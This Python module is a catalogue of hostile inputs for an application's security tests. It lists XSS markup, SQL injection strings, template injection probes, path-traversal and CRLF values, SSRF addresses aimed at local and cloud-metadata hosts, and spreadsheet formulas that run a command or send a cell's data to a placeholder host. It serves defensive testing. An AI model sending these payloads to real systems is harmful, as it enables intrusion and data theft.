"""The catalogue of bad inputs: what is sent, by family. What must come of it is in the tests.

Texts are Python strings, sent as JSON or as a form; `NOMBRES` and `DATES` are raw JSON values.
"""

import json

#: X: markup, in anything that is printed or displayed.
BALISES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<a oncontentvisibilityautostatechange=alert(1) style=display:block>x</a>",
    '<iframe/src="data:text/html;&Tab;base64&Tab;,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=a&gt;">',
    "</textarea><script>1</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "]]><x/>",
    "--></style>",
    "&lt;script&gt;&#60;b&#62;",
)
#: What a renderer of HTML would fetch or open; ours is Typst, whose own markup follows.
RENDU = (
    '<img src="http://127.0.0.1:{port}/latest/meta-data/">',
    '<link rel=attachment href="file:///etc/passwd">',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:{port}/">',
    "<style>@import url(//127.0.0.1:{port}/)</style>",
    '<object data="file:///proc/self/environ">',
    '<svg><image href="file:///etc/hostname"/></svg>',
    '<div style="height:1e9px">',
    '#read("/etc/passwd")',
    '#image("/etc/hostname")',
    '#import "@preview/cetz:0.3.0"',
    "#while true {}",
    "#eval(\"read('/etc/passwd')\")",
    "$ sum_(i=0)^oo $ *gras* _x_ `y` <a> @b = c \\ #panic()",
)
#: Q: SQL, in anything that is searched, sorted or filtered.
SQL = (
    "' OR '1'='1",
    "1;DROP TABLE client--",
    "id,(select sleep(3))",
    "(case when(1=1)then id else 1 end)",
    "*)--",
    "1) or (1=1",
    "%",
    "_",
    "\\",
    "\\'",
    "1e0",
    "nom'||(select password from utilisateur)||'",
    "nom DESC; --",
    "\u2019 OR 1=1",
)
#: T: templates and formats.
GABARITS = (
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "{{u.password_hash}}",
    "{{u.delete()}}",
    "{% for a in range(99999) %}x{% endfor %}",
    "{{'a'*10**8}}",
    "{0.__class__}",
    "%(x)s %s %n",
)
#: F: what a spreadsheet would compute.
FORMULES = (
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://x","//a")',
    '=WEBSERVICE("http://x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    ";=1+1",
    '",=1+1',
)
#: P: paths and names of files.
CHEMINS = (
    "../../etc/passwd",
    "..%2f..%2f",
    "%252e%252e/",
    "..\\..\\",
    "C:\\x",
    "/abs",
    "a/../../b",
    "\\\\host\\share",
    "CON.pdf",
    ".htaccess",
    "x.php.jpg",
    "x.jpg%00.php",
    "n" * 300,
    "\u202egpj.exe",
    "a\r\nSet-Cookie: x=1",
    '";filename*=',
    "~/.ssh/id",
)
#: U: addresses a server should never call.
ADRESSES = (
    "http://127.0.0.1:{port}",
    "http://0:{port}",
    "http://2130706433:{port}",
    "http://0x7f.1:{port}",
    "http://[::1]:{port}",
    "http://[::ffff:127.0.0.1]:{port}",
    "http://169.254.169.254",
    "http://user@127.0.0.1:{port}",
    "http://127.0.0.1:{port}#@ok.fr",
    "gopher://127.0.0.1:{port}",
    "file:///etc/passwd",
    "ftp://127.0.0.1:{port}",
)
#: N: text that some layer mangles.
TEXTES = (
    "a\x00b",
    "\ufeffdébut",
    "zéro\u200blargeur",
    "\u202etxet",
    "e\u0301 et \u00e9",
    "👷🏗\ufe0f\U0001f9f1",
    "İstanbul ıI",
    "Z" + "\u0361" * 1000,
    "1\u00a0234\u202f567",
    "x" * 1_000_000,
    "   ",
    "ÿ" * 255,
    "ÿ" * 256,
    "ligne\r\nligne\rligne\nligne",
    "\u2028\u2029\x85",
    "\ufffe\uffff",
)
#: The same, sent as raw JSON: what Python itself would not encode.
BRUTS = ('"\\ud800"', '"\\u0000"', '"\\ud800\\ud800"', "12", "true", "{}", "[]", "null")
#: V: numbers, as raw JSON.
NOMBRES = (
    *(
        "NaN",
        "Infinity",
        "-Infinity",
        "-0",
        "-0.0",
        "1e400",
        "1e-400",
        "1e999999999",
        "1e-999999999",
        "0x10",
        "1_000",
    ),
    *("0.005", "2.675", "1.005", "99999999999.99", "1e20", "9223372036854775808"),
    *("1." + "1" * 40, "1" * 400, "100.01", "-1", "0", "true", "null", "[12]", "{}"),
    *('"12"', '"１２"', '"1,5"', '"1.234,56"', '"1 234,56"', '"1e3"', '"NaN"', '""', '" "'),
    *('"abc"', '"-12,50"', '"0x10"', '"1_000"', '"' + "9" * 5000 + '"'),
)
#: D: dates, as raw JSON.
DATES = (
    *('"29/02/2027"', '"31/04/2026"', '"0000-01-01"', '"9999-12-31"', '"10000-01-01"'),
    *('"2026-W53"', '"2026-03-29T02:30:00"', '"2026-10-25T02:30:00"', '"1970-01-01"'),
    *('"2026-01-01T00:00:00+14:00"', '"2016-12-31T23:59:60Z"', '"1"', "0", "1767225600"),
    *('"２０２６-01-01"', '"2026-1-1"', "true", "[]", '""', '"2199-12-31"', '"1999-01-01"'),
)
IDENTIFIANTS = (
    *('"1 or 1=1"', '"' + "0" * 32 + '"', '"{00000000-0000-0000-0000-000000000000}"', "1"),
    *("null", "{}", "[]", '""', '"../../etc/passwd"', '"01900000-0000-7000-8000-000000000000"'),
)
#: J: bodies that are not what they say.
CORPS = (
    *(b"", b"null", b"[]", b'"texte"', b"{", b'{"nom":1,"nom":2}', b"{" * 100_000),
    *(b"[" * 100_000, b'{"lignes":' + b"[" * 5000 + b"]" * 5000 + b"}", b"\x00"),
    *(b"\xff\xfe{}", b"\xef\xbb\xbf{}", b'{"a":\n1e999}', b'{"a":1}{"b":2}', b"{'a':1}"),
    *(b'{"lignes":null}', b'{"' + b"a" * 1_000_000 + b'":1}', b"<a/>", b"a=1&b=2"),
)
#: What a client would decide in the server's stead.
IMPOSES = {
    "role": "admin",
    "company_id": 2,
    "posted": True,
    "numero": "F1",
    "number": "F1",
    "statut": "ACCEPTE",
    "total": 0,
    "montantTTC": 0,
    "paid": 1,
    "statutPaiement": "PAYE",
    "resteAPayer": 0,
    "version": 9,
    "revision": 99,
    "id": "01900000-0000-7000-8000-000000000000",
    "creeLe": "1999-01-01",
    "__class__": "x",
    "__proto__": {"admin": True},
}

TOUS_LES_TEXTES = (*BALISES, *RENDU, *SQL, *GABARITS, *FORMULES, *CHEMINS, *ADRESSES, *TEXTES)
#: Every text, as raw JSON.
TEXTES_JSON = (*map(json.dumps, TOUS_LES_TEXTES), *BRUTS)
